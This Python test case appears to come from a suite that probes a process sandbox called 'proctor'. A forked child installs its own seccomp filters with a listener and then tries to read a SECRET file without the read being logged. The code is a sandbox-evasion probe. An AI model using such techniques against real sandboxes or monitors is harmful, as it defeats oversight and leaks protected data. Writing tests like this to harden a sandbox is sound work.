# SPDX-License-Identifier: Apache-2.0
# attack: a child answers its own calls: a filter of its own, with a listener and without
# class: processes
# wins: leak unlogged
# native: n/a: there is nothing to answer without proctor
# logged: seccomp prctl
# options: --process fork
from kit import *

tried()
allow = ctypes.create_string_buffer(struct.pack('<HBBI', 6, 0, 0, 0x7fff0000))
prog = struct.pack('<HxxxxxxQ', 1, address(allow))
pid = os.fork()
if pid == 0:
    sc('prctl', 38, 1, 0, 0, 0)
    sc('seccomp', 1, 8, prog)
    sc('seccomp', 1, 0, prog)
    sc('prctl', 22, 2, prog)
    took(openat(SECRET))
    os._exit(0)
os.waitpid(pid, 0)
took(openat(SECRET))
